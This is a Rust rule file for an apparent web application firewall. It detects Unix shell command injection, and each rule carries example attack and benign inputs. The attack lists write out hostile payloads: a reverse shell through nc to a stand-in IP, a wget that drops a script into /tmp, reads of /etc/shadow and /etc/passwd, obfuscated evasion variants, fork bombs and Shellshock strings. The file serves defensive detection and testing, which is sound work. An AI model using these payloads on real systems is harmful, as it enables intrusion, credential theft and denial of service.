//! Rules for Unix shells, each with its proofs.

use waf_shared::catalog::Leaf;

use crate::field::Places;
use crate::rule::{Rule, RuleMatcher, STRONG};

/// The rules of this file.
pub(super) static RULES: &[&Rule] = &[
    &COMMAND,
    &COMMAND_LIKE,
    &ENGLISH,
    &SUBSTITUTION,
    &SUBSTITUTION_LIKE,
    &ALIAS,
    &HISTORY,
    &BRACES,
    &WILDCARD,
    &WILDCARD_DIRECTORY,
    &EVASION,
    &FORK_BOMB,
    &SHELLSHOCK,
];

pub(super) static COMMAND: Rule = Rule {
    id: "command-injection-unix-commands/command-line",
    leaf: Leaf::CommandInjectionUnixCommands,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A program of a Unix system stands in a command's place, with arguments of its kind.",
    attacks: &[
        "127.0.0.1; cat /etc/hostname",
        "report.pdf|id",
        "x && w'h'oam\"i\"",
        "8.8.8.8\nwget http://drop.example/a.sh -O /tmp/a",
        "';uname -a;'",
        "a=net;b=stat;$a$b -an",
        "/usr/bin/perl -e 'exec \"/bin/sh\"'",
        "img.png; c\\at /etc/shadow",
        "; nc -e /bin/sh 203.0.113.9 4444",
    ],
    benign: &[
        "cat and dog; find more",
        "changed:\n- bin/setup\n- src/main.rs",
        "who is it? | time to go",
        "top | bottom",
        "fish & chips",
        "use the force; curl up with a book; wget some rest",
        "ls 300 lexus",
        "ping me at 5; sleep 8 hours",
        "Preheat the oven; cut the onions; sort the beans; mix.",
        "C:\\Users\\me\\file.txt",
        "WordPress 6.5; PHP 8.2; MySQL 8.0",
        "Java & Python 3",
        "Total:\nPHP 1,500.00",
        "Employee; ID 100234",
        "Boise; ID 83702",
        "Rockville | MD 20850",
        "Lamp | IP 67",
        "Composer/2.7.6 (Linux; 5.15.0; PHP 8.2.18; cURL 7.81.0)",
    ],
};

pub(super) static COMMAND_LIKE: Rule = Rule {
    id: "command-injection-unix-commands/command-like",
    leaf: Leaf::CommandInjectionUnixCommands,
    weight: 1,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "Something that could be a Unix command, or prose about one.",
    attacks: &["perl -v", "please tell me about it; tail -f", "we had it all; wget some rest"],
    benign: &["Terms & conditions", "echo chamber", "kill two birds with one stone"],
};

pub(super) static ENGLISH: Rule = Rule {
    id: "command-injection-english-words/command-line",
    leaf: Leaf::CommandInjectionEnglishWords,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A common word that is also a command stands in a command's place.",
    attacks: &["127.0.0.1; who", "a | sort", "x && date -u", "127.0.0.1; cat notes.txt"],
    benign: &["a sorted list", "the date; the time", "find more on page 5"],
};

pub(super) static SUBSTITUTION: Rule = Rule {
    id: "command-injection-shell-substitution/command",
    leaf: Leaf::CommandInjectionShellSubstitution,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A shell's substitution runs a command or rewrites a parameter in place.",
    attacks: &[
        "$(id)",
        "ab--exec=`id`--remote=mirror",
        "cat${IFS}/etc/passwd",
        "${`uname`}",
        "<(cat file)",
        "/etc/pas[s]wd",
        "${PATH##*/}",
        "~+",
    ],
    benign: &[
        "Hello ${name}, your order ${order.id} is on its way",
        "use `git status` first",
        "$100 (approx.)",
        "$(document).ready(function () { $('#id').hide() })",
        "the `code` is here",
        "/items[0]/name",
        "/book[price>35]/title",
    ],
};

pub(super) static SUBSTITUTION_LIKE: Rule = Rule {
    id: "command-injection-shell-substitution/expansion",
    leaf: Leaf::CommandInjectionShellSubstitution,
    weight: 1,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "An expansion of shell parameters or arithmetic within a text.",
    attacks: &["total=$((6*7))", "the script uses ${file%%.*} here", "see ${path//a/b} for more"],
    benign: &["${name}", "#{name} and {{name}}", "Price: $(15)"],
};

pub(super) static ALIAS: Rule = Rule {
    id: "command-injection-shell-aliases/definition",
    leaf: Leaf::CommandInjectionShellAliases,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A shell alias is defined.",
    attacks: &["alias q=env;q", "x; alias -g w=whoami", "alias ..='cd ..'"],
    benign: &["alias", "his alias was Bob", "an alias for x = y"],
};

pub(super) static HISTORY: Rule = Rule {
    id: "command-injection-shell-history/event",
    leaf: Leaf::CommandInjectionShellHistory,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A command is recalled from the shell's history.",
    attacks: &["!-1", "; !-2", "sudo !!:p", "!-1!-2"],
    benign: &["Wow!!", "n!-1 permutations", "wait!-1 more"],
};

pub(super) static BRACES: Rule = Rule {
    id: "command-injection-brace-expansion/list",
    leaf: Leaf::CommandInjectionBraceExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A command and its arguments are written as a brace list.",
    attacks: &["{cat,/etc/passwd}", ";{ls,-la}", "{,ip,a}"],
    benign: &["{\"a\":1,\"b\":2}", "{id,name}", "a{color:red;margin:0,1}"],
};

pub(super) static WILDCARD: Rule = Rule {
    id: "command-injection-shell-wildcards/path",
    leaf: Leaf::CommandInjectionShellWildcards,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A path whose directories are hidden behind wildcards.",
    attacks: &["/???/c?t", "cat /et*/*wd", "; /b?n/ls"],
    benign: &["Does the * shine bright?", "*/*; q=0.8", "really? /sure"],
};

pub(super) static WILDCARD_DIRECTORY: Rule = Rule {
    id: "command-injection-shell-wildcards/directory",
    leaf: Leaf::CommandInjectionShellWildcards,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"(?:^|[\s;&|"'=`(])/(?:[\w.-]+/)*[\w.-]*(?:\w[*?]|[*?]\w|\?\?)[\w.*?-]*/[\w.*?/-]*\w"#,
        literals: &["*", "?"],
    },
    summary: "An absolute path with wildcards in the name of a directory.",
    attacks: &["/et*/*wd", "/b?n/ls", "/e*c/passwd", "/usr/b*/id", "x=/???/id", ";/v?r/l?g/x"],
    benign: &["*/*; q=0.8", "really? /sure", "src/*/mod.rs", "/api/*/users", "/search?q=a/b", "4 * 3 / 2"],
};

pub(super) static EVASION: Rule = Rule {
    id: "command-injection-evasion-tricks/hollow-expansion",
    leaf: Leaf::CommandInjectionEvasionTricks,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A word is cut by expansions that come to nothing.",
    attacks: &["host;c$?at /et$?c/pas$?swd", "x;wh$@oami", "cat$u /etc$u/passwd"],
    benign: &["it costs $5; pay in cash", "a$b", "US$ and C$"],
};

pub(super) static FORK_BOMB: Rule = Rule {
    id: "command-injection-fork-bomb/function",
    leaf: Leaf::CommandInjectionForkBomb,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A shell function that starts itself twice.",
    attacks: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f() & f(); }; f"],
    benign: &["hello (world) | test", "function a() { return b || c; }", "http://example.com:8080/path"],
};

pub(super) static SHELLSHOCK: Rule = Rule {
    id: "command-injection-shellshock/function-definition",
    leaf: Leaf::CommandInjectionShellshock,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "A shell function definition where a value is expected.",
    attacks: &[
        "() { :; }; echo; /bin/id",
        "() {",
        "() { _; } >_[$($())] { id; }",
        "a=() { :;}; ping -c 1 203.0.113.9",
    ],
    benign: &["function () { return 1; }", "() => { return 1; }", "call() {x}"],
};
